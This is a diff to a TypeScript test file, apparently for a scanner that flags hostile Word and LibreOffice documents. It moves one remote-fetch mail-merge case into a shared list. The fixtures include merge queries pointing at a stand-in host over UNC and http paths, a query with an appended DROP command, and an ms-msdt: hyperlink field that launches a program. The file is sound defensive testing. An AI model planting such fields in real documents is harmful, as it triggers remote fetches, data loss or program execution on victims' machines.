@@ -61,7 +61,7 @@ const merges: Record<string, string> = {
     [
       ...['SELECT * FROM x', 'SELECT * FROM [\\\\evil.example\\x]', 'SELECT * FROM \\\\evil.example\\x.dbo.y$'],
       ...['SELECT * FROM //evil.example/x.dbo.y$', 'EXEC x.dbo.y$'],
-      ...['SELECT * FROM C:x.dbo.y$', 'SELECT * FROM a.dbo.b$; DROP x', 'SELECT * FROM a.b.dbo.c$', 'x'],
+      ...['SELECT * FROM C:x.dbo.y$', 'SELECT * FROM http://evil.example/x.dbo.y$', 'SELECT * FROM a.dbo.b$; DROP x', 'SELECT * FROM a.b.dbo.c$', 'x'],
     ].map((words) => [`that asks ${words}`, query(words)]),
   ),
   'of another kind of data': mergeOf('a', 'b').replace('textFile', 'native'),
@@ -149,11 +149,6 @@ export const almostOfLibreOffice: Hostile[] = [
     'with a link to nowhere whose field leads to a program',
     wordFile({ text: 'CV \x13 HYPERLINK "ms-msdt:/id" \x14l\x15' }, { Data: emptyLink() }),
     'leads to a program',
-  ),
-  hostile(
-    'with a merge of an address',
-    withSettings(query('SELECT * FROM http://evil.example/x.dbo.y$')),
-    'fetched from elsewhere',
   ),
   ...Object.entries(merges).map(([what, merge]) =>
     hostile(`with a merge ${what}`, withSettings(merge), 'a mail merge'),
